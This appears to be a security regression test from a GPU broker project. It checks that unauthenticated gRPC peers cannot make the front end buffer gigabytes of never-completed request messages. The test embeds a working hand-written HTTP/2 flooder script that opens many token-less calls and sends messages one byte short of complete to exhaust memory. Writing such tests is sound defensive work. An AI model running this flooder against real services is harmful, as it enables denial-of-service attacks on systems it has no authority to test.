"""attack3: unauthenticated gRPC peers make the front buffer gigabytes of request messages that never complete.

The front authenticates in each handler, i.e. after gRPC has received a whole request message. A peer with no token
opens calls (up to ``max_grpc_streams_per_connection`` per connection, ``max_grpc_connections_per_peer`` connections)
and sends each call's message, announced at just under ``max_message_bytes``, one byte short of complete: gRPC's
flow control grants it the rest of the message, holds it all in the front's memory, and never calls the handler,
so nothing authenticates, times out (a connection with calls open is not idle) or counts it. Here 6 connections of
one uid, with no token, took the front from ~70 MiB to hundreds of MiB in a few seconds; the caps allow 64 per uid
and 512 in all (x 64 calls x 4 MiB).
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec

CONNECTIONS = 6
STREAMS = 60
MESSAGE = 4 * 1024 * 1024 - 64  # under max_message_bytes (4 MiB)
FLOOD_SECONDS = 6.0
ALLOWED_GROWTH = 128 << 20

FLOODER = r'''# A hand-written HTTP/2 client: opens `streams` unary gRPC calls with no token and sends each one's
# message up to one byte short of complete, as fast as the server's flow-control windows allow; then holds them.
import socket, struct, sys, time, select

def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload

def lit(name, value):
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v

def flood(path, streams, msglen, seconds, hold):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    headers = (lit(":method", "POST") + lit(":scheme", "http") + lit(":path", "/gpubroker.v1.GpuBroker/Allocate")
               + lit(":authority", "localhost") + lit("content-type", "application/grpc") + lit("te", "trailers"))
    conn_win = 65535
    init_win = 65535
    sent = {}
    win = {}
    ids = [1 + 2 * i for i in range(streams)]
    for sid in ids:
        s.sendall(frame(1, 0x4, sid, headers))
        sent[sid] = 0
        win[sid] = init_win
    buf = b""
    end = time.monotonic() + seconds
    chunk = b"\x00" * 16384
    s.settimeout(5)
    total = 0
    while time.monotonic() < end:
        progressed = False
        for sid in ids:
            want = msglen + 5 - 1 - sent[sid]  # one byte short of the whole message
            n = min(want, win[sid], conn_win, 16384)
            if n <= 0:
                continue
            if sent[sid] == 0:
                payload = b"\x00" + struct.pack(">I", msglen) + chunk[:n - 5]
            else:
                payload = chunk[:n]
            s.sendall(frame(0, 0, sid, payload))
            sent[sid] += n; win[sid] -= n; conn_win -= n; total += n
            progressed = True
        r, _, _ = select.select([s], [], [], 0 if progressed else 0.05)
        if r:
            data = s.recv(1 << 20)
            if not data:
                break
            buf += data
            while len(buf) >= 9:
                ln = int.from_bytes(buf[:3], "big"); ft = buf[3]; fl = buf[4]
                sid = int.from_bytes(buf[5:9], "big") & 0x7fffffff
                if len(buf) < 9 + ln:
                    break
                pl = buf[9:9 + ln]; buf = buf[9 + ln:]
                if ft == 4 and not fl & 1:
                    for i in range(0, len(pl), 6):
                        k, v = struct.unpack(">HI", pl[i:i + 6])
                        if k == 4:
                            for x in ids: win[x] += v - init_win
                            init_win = v
                    s.sendall(frame(4, 1, 0))
                elif ft == 8:
                    inc = struct.unpack(">I", pl)[0] & 0x7fffffff
                    if sid == 0: conn_win += inc
                    elif sid in win: win[sid] += inc
                elif ft == 6 and not fl & 1:
                    s.sendall(frame(6, 1, 0, pl))
                elif ft in (3, 7):  # RST_STREAM / GOAWAY
                    if ft == 7: print("goaway", pl[:8].hex(), flush=True)
                    elif sid in win: ids.remove(sid)
    print(f"sent {total} bytes on {len(ids)} streams", flush=True)
    time.sleep(hold)
    s.close()

flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]))
'''


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
    tmp = tmp_path_factory.mktemp("h2")
    with BrokerProcess([TenantSpec("alice")], backend="opencl", settings={"cache_dir": str(tmp / "caches")}) as proc:
        yield proc


def rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def test_unauthenticated_calls_cannot_make_the_front_buffer_their_messages(broker: BrokerProcess) -> None:
    assert broker.process is not None
    pid = broker.process.pid
    path = broker.target.removeprefix("unix:")
    before = rss(pid)
    floods = [subprocess.Popen([sys.executable, "-c", FLOODER, path, str(STREAMS), str(MESSAGE), str(FLOOD_SECONDS),
                                "3"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
              for _ in range(CONNECTIONS)]
    peak = before
    try:
        deadline = time.monotonic() + FLOOD_SECONDS + 2
        while time.monotonic() < deadline:
            peak = max(peak, rss(pid))
            time.sleep(0.2)
        outs = [f.communicate(timeout=30)[0].strip().splitlines()[-1:] for f in floods]
    finally:
        for f in floods:
            if f.poll() is None:
                f.kill()
                f.wait()
    print(f"\nfront RSS {before >> 20} MiB before, {peak >> 20} MiB at the peak; flooders (no token): {outs}")
    assert peak - before <= ALLOWED_GROWTH, (
        f"{CONNECTIONS} unauthenticated connections of one uid grew the front by {(peak - before) >> 20} MiB with "
        "request messages that never complete (no handler ran, nothing authenticated)")
